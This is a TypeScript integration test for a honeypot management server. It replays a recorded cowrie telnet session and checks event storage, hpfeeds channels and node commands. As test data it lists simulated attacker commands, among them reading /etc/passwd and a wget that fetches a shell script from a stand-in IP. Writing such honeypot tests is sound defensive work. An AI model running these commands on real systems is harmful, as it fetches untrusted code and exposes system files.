// The real HoneyBee node end to end, through the core as `apiary serve` builds it: the lines a real
// node sent (shared/fixtures/honeybee-node-cowrie-session.ndjson: install, a telnet session on a
// real cowrie with two logins and four commands, restarts) are replayed over a TCP session and a
// WebSocket session; the stored events, cowrie.events, the all-events channel and cowrie.sessions
// must carry cowrie's structure. Then the real node's Restart answer, and its forgotten pots.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildCore, type Core } from '../../src/app.js';
import { loadConfig } from '../../src/config/index.js';
import { HpfeedsClient } from '../../src/hpfeeds/index.js';
import { totpCode } from '../../src/protocol/index.js';
import { COWRIE_SESSION_FIXTURE, fixtureLines } from '../helpers/fixture.js';
import { tempDir } from '../helpers/tmp.js';
import { parseAck, registration, tcpClient, wsClient, type TestClient } from '../nodes/harness.js';

const FIXTURE_NODE_ID = '14874229900362173880';
const SESSION = '695f09473589';
const TTY_SHA = '941aa25891abb1904acd35fc7322f776d8968db671e985cbe1c9a18b4c2bb9a3';
const COMMANDS = ['uname -a', 'cat /etc/passwd | head -2', 'wget http://198.51.100.7/x.sh', 'exit'];

interface Received {
  ident: string;
  channel: string;
  payload: string;
}

async function until<T>(what: string, probe: () => T | undefined | Promise<T | undefined>, timeoutMs = 15_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const v = await probe();
    if (v !== undefined && v !== false) return v;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

describe('the real HoneyBee node, end to end', () => {
  const dir = tempDir('apiary-real-node-');
  let core: Core;
  let base: string;
  let admin: string;
  const received: Received[] = [];
  const closers: (() => unknown)[] = [];
  const secrets = new Map<string, string>();

  const api = async (method: string, path: string, body?: unknown) => {
    const res = await fetch(`${base}${path}`, {
      method,
      headers: { authorization: `Bearer ${admin}`, ...(body ? { 'content-type': 'application/json' } : {}) },
      body: body ? JSON.stringify(body) : undefined,
    });
    const text = await res.text();
    return { status: res.status, body: text ? JSON.parse(text) : undefined };
  };
  const on = (channel: string, ident: string) => received.filter((m) => m.channel === channel && m.ident === ident).map((m) => JSON.parse(m.payload));

  before(async () => {
    const config = loadConfig(
      ['--api-host', '127.0.0.1', '--api-port', '0', '--node-tcp-host', '127.0.0.1', '--node-tcp-port', '0', '--hpfeeds-endpoint', 'tcp:port=0:interface=127.0.0.1'],
      { APIARY_DATA_DIR: dir.path, LOG_LEVEL: 'silent', ENROLLMENT_MODE: 'provisioned' },
    );
    core = await buildCore(config);
    base = `http://127.0.0.1:${core.addresses.api.port}`;
    admin = readFileSync(join(dir.path, 'admin-token'), 'utf8').trim();
    for (const name of ['gonode-1', 'gonode-ws']) {
      const created = await api('POST', '/api/v1/nodes', { name });
      assert.equal(created.status, 201);
      secrets.set(name, created.body.secret);
    }
    const key = await api('POST', '/api/v1/hpfeeds/authkeys', { ident: 'soc', subchans: ['cowrie.events', 'apiary.events', 'cowrie.sessions', 'unknown.events'] });
    const sub = new HpfeedsClient({ host: '127.0.0.1', port: core.addresses.hpfeeds[0]!.port, ident: 'soc', secret: key.body.secret, reconnect: false });
    closers.push(() => sub.close());
    sub.on('message', (ident, channel, payload) => received.push({ ident, channel, payload: payload.toString() }));
    await sub.connect();
    sub.subscribe(['cowrie.events', 'apiary.events', 'cowrie.sessions', 'unknown.events']);
    await new Promise((r) => setTimeout(r, 100)); // the subscription reaches the broker
  });
  after(async () => {
    for (const c of closers.reverse()) await Promise.resolve(c()).catch(() => {});
    await core?.close();
    dir.cleanup();
  });

  /** Registers like the real node (TOTP of `at`), then sends the fixture session's lines after its registrations. */
  async function replay(client: TestClient, name: string, at = Date.now()): Promise<void> {
    client.send(registration(name, FIXTURE_NODE_ID, totpCode(secrets.get(name)!, at), { address: '127.0.0.1', port: 30090 }));
    assert.equal(parseAck(await client.next()).accepted, true);
    for (const line of fixtureLines(COWRIE_SESSION_FIXTURE)) {
      if (!line.includes('"NodeRegistration"')) client.send(line);
    }
  }

  function checkSession(name: string): void {
    const sessions = on('cowrie.sessions', name);
    assert.equal(sessions.length, 1);
    const s = sessions[0];
    assert.equal(s.session, SESSION);
    assert.equal(s.peerIP, '127.0.0.1');
    assert.equal(s.peerPort, 50218);
    assert.equal(s.hostIP, '127.0.0.1');
    assert.equal(s.hostPort, 30023);
    assert.equal(s.protocol, 'telnet');
    // classic cowrie hpfeeds semantics: failed attempts in credentials, the successful one in loggedin
    assert.deepEqual(s.credentials, [['root', '123456']]);
    assert.deepEqual(s.loggedin, ['root', 'hunter2']);
    assert.deepEqual(s.commands, COMMANDS);
    assert.deepEqual(s.unknownCommands, []);
    // cowrie reported no completed download for the wget (its host is unreachable): no url, as
    // from cowrie's own JSON; the URL is in the command
    assert.deepEqual(s.urls, []);
    assert.deepEqual(s.hashes, [TTY_SHA]);
    assert.equal(s.version, null);
    assert.equal(s.ttylog, null);
    assert.match(s.startTime, /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    assert.match(s.endTime, /^\d{4}-\d{2}-\d{2}T/);
    assert.ok(Date.parse(s.endTime) >= Date.parse(s.startTime));
  }

  async function checkEvents(name: string): Promise<void> {
    const page = await api('GET', `/api/v1/events?node=${name}&limit=100`);
    assert.equal(page.status, 200);
    const stored = [...page.body.events].sort((a: { id: number }, b: { id: number }) => a.id - b.id);
    const types = stored.map((e: { event_type: string }) => e.event_type);
    assert.deepEqual(types, [
      'cowrie.session.connect',
      'cowrie.login.failed',
      'cowrie.login.success',
      'cowrie.unparsed',
      'cowrie.command.input',
      'cowrie.command.input',
      'cowrie.command.input',
      'cowrie.command.input',
      'cowrie.log.closed',
      'cowrie.session.closed',
    ]);
    for (const e of stored) {
      assert.equal(e.node, name);
      assert.equal(e.pot_id, 'cowrie-02', 'attributed to the node\'s cowrie pot, not to the sensor name');
      assert.equal(e.pot_type, 'cowrie');
      assert.equal(e.data.sensor, 'vm');
      assert.equal(e.data.session, SESSION);
      assert.equal(e.data.src_ip, '127.0.0.1');
      assert.equal(e.data.eventid, e.event_type);
      assert.equal(e.data.timestamp, e.timestamp);
    }
    const [connect, failed, success, bare, c1, c2, c3, c4, closedLog, lost] = stored;
    assert.deepEqual(connect.data, {
      eventid: 'cowrie.session.connect',
      src_ip: '127.0.0.1',
      src_port: 50218,
      dst_ip: '127.0.0.1',
      dst_port: 30023,
      session: SESSION,
      protocol: 'telnet',
      message: `New connection: 127.0.0.1:50218 (127.0.0.1:30023) [session: ${SESSION}]`,
      sensor: 'vm',
      timestamp: connect.timestamp,
    });
    assert.deepEqual([failed.data.username, failed.data.password, failed.data.message], ['root', '123456', 'login attempt [root/123456] failed']);
    assert.deepEqual([success.data.username, success.data.password, success.data.message], ['root', 'hunter2', 'login attempt [root/hunter2] succeeded']);
    assert.equal('message' in bare.data, false, 'the line without message is kept, as cowrie.unparsed');
    assert.deepEqual([c1, c2, c3, c4].map((c) => c.data.input), COMMANDS);
    assert.deepEqual([c1, c2, c3, c4].map((c) => c.data.message), COMMANDS.map((c) => `CMD: ${c}`));
    assert.equal(closedLog.data.ttylog, `var/lib/cowrie/tty/${TTY_SHA}`);
    assert.equal(closedLog.data.duration, 9);
    assert.equal(closedLog.data.shasum, TTY_SHA);
    assert.equal(lost.data.duration, 16);
    assert.equal(lost.data.message, 'Connection lost after 16 seconds');

    // the same records on cowrie.events and the all-events channel, in order
    const onCowrie = on('cowrie.events', name);
    const onAll = on('apiary.events', name);
    assert.deepEqual(onCowrie, stored);
    assert.deepEqual(onAll, stored);
    assert.equal(on('unknown.events', name).length, 0);
  }

  it('replays the real session over TCP: stored events, cowrie.events, apiary.events and cowrie.sessions', async () => {
    const client = await tcpClient(core.addresses.nodeTcp.port);
    closers.push(() => client.close());
    await replay(client, 'gonode-1');
    await until('the cowrie.sessions record', () => on('cowrie.sessions', 'gonode-1').length > 0 || undefined);
    await until('ten cowrie events', () => on('cowrie.events', 'gonode-1').length >= 10 || undefined);
    checkSession('gonode-1');
    await checkEvents('gonode-1');
    const node = await api('GET', '/api/v1/nodes/gonode-1');
    assert.equal(node.body.transport, 'tcp');
    assert.deepEqual(
      node.body.pots.map((p: { potId: string; potType: string }) => [p.potId, p.potType]),
      [['cowrie-02', 'cowrie']],
      'the sensor name did not become a pot',
    );
  });

  it('replays the real session over WebSocket with the same result', async () => {
    const client = await wsClient(`ws://127.0.0.1:${core.addresses.api.port}/ws/node`);
    closers.push(() => client.close());
    await replay(client, 'gonode-ws');
    await until('the cowrie.sessions record', () => on('cowrie.sessions', 'gonode-ws').length > 0 || undefined);
    await until('ten cowrie events', () => on('cowrie.events', 'gonode-ws').length >= 10 || undefined);
    checkSession('gonode-ws');
    await checkEvents('gonode-ws');
    assert.equal((await api('GET', '/api/v1/nodes/gonode-ws')).body.transport, 'ws');
  });

  it('Restart succeeds on the real answer (pot lines + NodeEvent Started, no re-registration); GetInstalledPots keeps last messages', async () => {
    const client = await tcpClient(core.addresses.nodeTcp.port);
    closers.push(() => client.close());
    // a new registration of gonode-1 (next TOTP step: the current one was spent by the replay)
    client.send(registration('gonode-1', FIXTURE_NODE_ID, totpCode(secrets.get('gonode-1')!, Date.now() + 30_000)));
    assert.equal(parseAck(await client.next()).accepted, true);
    const pot = (status: string, message?: string) =>
      JSON.stringify({ version: 2, message: { PotStatusUpdate: { node_id: 1, pot_id: 'cowrie-02', pot_type: 'cowrie', status, ...(message ? { message } : {}) } } }).replace(
        '"node_id":1',
        `"node_id":${FIXTURE_NODE_ID}`,
      );
    // Like the real node: answer each command the way it does.
    let answering = true;
    const commands: string[] = [];
    void (async () => {
      while (answering) {
        let line: string;
        try {
          line = await client.next(60_000);
        } catch {
          return;
        }
        const command = JSON.parse(line).message?.NodeCommand?.command ?? {};
        const kind = Object.keys(command)[0] ?? '';
        commands.push(kind);
        if (kind === 'GetInstalledPots') client.send(pot('Running')); // no message, as the real node
        if (kind === 'Restart') {
          client.send(pot('Stopped', 'Status: Stopped - Honeypot stopped'));
          client.send(pot('Running', 'Status: Running - Honeypot started'));
          client.send(`{"version":2,"message":{"NodeEvent":{"type":"Started"}}}`);
        }
      }
    })();
    closers.push(() => {
      answering = false;
    });

    const restart = await api('POST', '/api/v1/nodes/gonode-1/commands', { command: { Restart: {} } });
    assert.equal(restart.status, 201);
    const done = await until('the Restart outcome', async () => {
      const c = (await api('GET', `/api/v1/commands/${restart.body.id}`)).body;
      return ['succeeded', 'failed', 'expired'].includes(c.status) ? c : undefined;
    }, 30_000);
    assert.equal(done.status, 'succeeded', JSON.stringify(done.result));
    // the registration's own GetInstalledPots went first, through the same queue
    assert.deepEqual(commands.slice(0, 2), ['GetInstalledPots', 'Restart']);
    const auto = (await api('GET', '/api/v1/commands?node=gonode-1&kind=GetInstalledPots')).body.commands;
    assert.ok(auto.some((c: { requestedBy: string | null }) => c.requestedBy === 'core:registration'));

    const sync = await api('POST', '/api/v1/nodes/gonode-1/commands', { command: { GetInstalledPots: {} } });
    const synced = await until('the GetInstalledPots outcome', async () => {
      const c = (await api('GET', `/api/v1/commands/${sync.body.id}`)).body;
      return c.status === 'succeeded' ? c : undefined;
    });
    assert.deepEqual(synced.result.pots, [{ potId: 'cowrie-02', potType: 'cowrie', status: 'Running' }]);
    const pots = (await api('GET', '/api/v1/nodes/gonode-1/pots')).body.pots;
    assert.equal(pots[0].status, 'Running');
    assert.equal(pots[0].lastMessage, 'Status: Running - Honeypot started', 'an answer without message keeps the last one');
    client.close();
    await until('gonode-1 offline', () => !core.gateway.isOnline('gonode-1') || undefined);
  });

  it('after the node process restarts and forgets its pots, they are marked missing (kept, shown)', async () => {
    // The replay's registration asked too; the pot reported a status after that request, so the
    // unanswered request did not make it missing.
    await until('the replay registration GetInstalledPots settled', async () =>
      (await api('GET', '/api/v1/commands?node=gonode-ws&status=sent')).body.commands.length === 0 || undefined,
    );
    assert.equal((await api('GET', '/api/v1/nodes/gonode-ws/pots')).body.pots[0].status, 'Running');
    const client = await tcpClient(core.addresses.nodeTcp.port);
    closers.push(() => client.close());
    // gonode-ws comes back as a new process (new node_id) over TCP, with the TOTP step after the
    // one its replay spent; the new session replaces the old WebSocket one
    client.send(registration('gonode-ws', '42', totpCode(secrets.get('gonode-ws')!, Date.now() + 30_000)));
    const ack = parseAck(await client.next());
    assert.equal(ack.accepted, true, ack.message);
    const cmd = JSON.parse(await client.next(15_000)).message.NodeCommand.command;
    assert.deepEqual(cmd, { GetInstalledPots: {} }, 'the core asks a registering node for its pots');
    // the real node answers nothing when it has no pots
    const pots = await until('cowrie-02 marked missing', async () => {
      const p = (await api('GET', '/api/v1/nodes/gonode-ws/pots')).body.pots;
      return p[0]?.status === 'missing' ? p : undefined;
    });
    assert.deepEqual(
      pots.map((p: { potId: string; potType: string; lastMessage: string | null }) => [p.potId, p.potType, p.lastMessage]),
      [['cowrie-02', 'cowrie', 'Status: Running - Honeypot started']],
    );
    const log = (await api('GET', '/api/v1/nodes/gonode-ws/log')).body;
    assert.ok(JSON.stringify(log).includes('pots_missing'));
    assert.equal((await api('GET', '/api/v1/nodes/gonode-ws')).body.transport, 'tcp');
    // cowrie text still arriving from the forgotten pot's cowrie is still attributed to it
    client.send(`{"version":2,"message":{"PotStatusUpdate":{"node_id":42,"pot_id":"vm","pot_type":"","status":"","message":"CMD: id"}}}`);
    const ev = await until('the late cowrie line', async () => {
      const page = (await api('GET', '/api/v1/events?node=gonode-ws&limit=1')).body.events;
      return page[0]?.data?.input === 'id' ? page[0] : undefined;
    });
    assert.equal(ev.pot_id, 'cowrie-02');
    assert.equal(ev.event_type, 'cowrie.command.input');
  });
});
